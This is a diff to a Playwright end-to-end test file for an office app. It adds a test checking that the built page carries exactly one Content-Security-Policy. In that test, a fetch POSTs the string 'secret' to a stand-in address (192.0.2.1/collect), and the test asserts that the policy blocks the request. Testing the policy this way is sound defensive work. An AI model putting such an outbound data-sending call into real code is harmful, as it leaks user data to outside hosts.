@@ -1,5 +1,6 @@
 import { expect, test } from '@playwright/test';
 import { accounts, createUser, setUpOffice, shot, signIn, signInFirstTime, signOut } from './fixtures.ts';
+import { browserContentSecurityPolicy } from '../../electron/csp.ts';
 
 test.use({ locale: 'zh-CN' });
 
@@ -93,4 +94,27 @@ test('signs in offline, locks when idle, masks personal data and audits every st
   await page.getByRole('button', { name: '校验哈希链' }).click();
   await expect(page.getByTestId('audit-verification')).toContainText('校验通过');
   await page.screenshot(shot('security-audit-trail'));
+});
+
+/** The built index.html carries the browser build's policy from electron/csp.ts, and only that one. */
+test('the built page enforces the one browser policy: no request to a host outside it', async ({ page }) => {
+  const violations: string[] = [];
+  page.on('console', (message) => {
+    if (message.text().includes('Content Security Policy')) violations.push(message.text());
+  });
+  await page.goto('/');
+  const metas = await page
+    .locator('meta[http-equiv="Content-Security-Policy"]')
+    .evaluateAll((elements) => elements.map((element) => element.getAttribute('content')));
+  expect(metas).toEqual([browserContentSecurityPolicy]);
+  const blocked = await page.evaluate(async () => {
+    try {
+      await fetch('http://192.0.2.1/collect', { method: 'POST', body: 'secret' });
+      return false;
+    } catch {
+      return true;
+    }
+  });
+  expect(blocked).toBe(true);
+  expect(violations.join('\n')).toContain('192.0.2.1');
 });
